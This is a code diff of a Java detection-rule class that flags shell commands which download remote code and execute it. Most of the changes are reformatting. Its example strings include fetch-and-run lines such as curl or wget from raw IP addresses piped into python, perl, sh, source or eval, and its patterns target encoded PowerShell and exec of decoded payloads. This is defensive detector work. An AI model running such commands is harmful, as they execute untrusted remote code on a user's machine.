@@ -20,7 +20,9 @@ final class DownloadRules {
   /** A pipe, perhaps at the end of a line. */
   private static final String PIPE = "\\|&?(?:\\s|\\\\n|\\\\\\\\)*";
 
-  /** An interpreter that reads its program from the pipe: with an expression to run it would not. */
+  /**
+   * An interpreter that reads its program from the pipe: with an expression to run it would not.
+   */
   private static final String READS_PROGRAM =
       "(?:"
           + SHELL
@@ -119,7 +121,7 @@ final class DownloadRules {
                   "sh -c &quot;$(curl -fsSL http://18.24.83.212/install)&quot;",
                   "sh -c \\\"$(wget -qO- h.example/i)\\\"",
                   "curl -k https://79.59.175.41/p.py | python3 -",
-                  "curl -k https://79.59.175.41/p.pl | perl",
+                  "curl -k https://79.59.175.41/p.pl | perl -",
                   "source <(wget -qO- http://191.171.208.111/env)",
                   "eval \"$(curl -s https://h.example/e)\"",
                   "eval `wget -qO- https://h.example/e`",
@@ -149,10 +151,22 @@ final class DownloadRules {
               .ordinaryIn(Setting.CODE)
               .unless(DownloadChecks::source)
               .finds("\\bcurl\\b" + STEPS + SAVES + STEPS + MAKE_RUNNABLE)
-              .finds("\\bcurl\\b" + STEPS + SAVES + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?" + SUDO + MAKE_RUNNABLE)
+              .finds(
+                  "\\bcurl\\b"
+                      + STEPS
+                      + SAVES
+                      + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?"
+                      + SUDO
+                      + MAKE_RUNNABLE)
               .finds("\\bcurl\\b" + STEPS + SAVES + STEPS + AND_THEN + RUN_IT)
               .finds("\\bwget2?\\b" + STEPS + TARGET + STEPS + MAKE_RUNNABLE)
-              .finds("\\bwget2?\\b" + STEPS + TARGET + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?" + SUDO + MAKE_RUNNABLE)
+              .finds(
+                  "\\bwget2?\\b"
+                      + STEPS
+                      + TARGET
+                      + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?"
+                      + SUDO
+                      + MAKE_RUNNABLE)
               .finds("\\bwget2?\\b" + STEPS + TARGET + STEPS + AND_THEN + RUN_IT)
               .finds(
                   "\\b(?:exec|eval)\\s*\\((?:[\\s\\\\\"'()\\w.,]|\\[)*(?:urlopen|requests\\.get|httpx\\.get|urllib\\.request|file_get_contents|URI\\.open)\\(")
@@ -211,12 +225,10 @@ final class DownloadRules {
                   "\\bprintf\\s+[\"'\\\\]*(?:\\\\{1,2}(?:x[0-9a-fA-F]{2}|[0-7]{3})){4,}[^\\n]*\\|\\s*"
                       + PRIVILEGE
                       + SHELL)
-              .finds(
-                  "\\b(?:rev|tr\\s+[^\\n|]*)\\s*(?:<<<[^\\n|]*)?\\|\\s*" + PRIVILEGE + SHELL)
+              .finds("\\b(?:rev|tr\\s+[^\\n|]*)\\s*(?:<<<[^\\n|]*)?\\|\\s*" + PRIVILEGE + SHELL)
               .finds(
                   "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-e(?:c|nc|ncodedcommand|ncoded)?\\s+[\"'\\\\]*[A-Za-z0-9+/=]{16,})")
-              .finds(
-                  "(?i:\\b(?:iex|invoke-expression)\\b[^\\n]*\\bfrombase64string\\()")
+              .finds("(?i:\\b(?:iex|invoke-expression)\\b[^\\n]*\\bfrombase64string\\()")
               .finds("(?i:\\bfrombase64string\\([^\\n]*\\|\\s*(?:iex|invoke-expression)\\b)")
               .finds(
                   "\\bexec\\s*\\([^\\n]*\\b(?:b64decode|b32decode|a85decode|unhexlify|fromhex|decompress|decodestring)\\(")
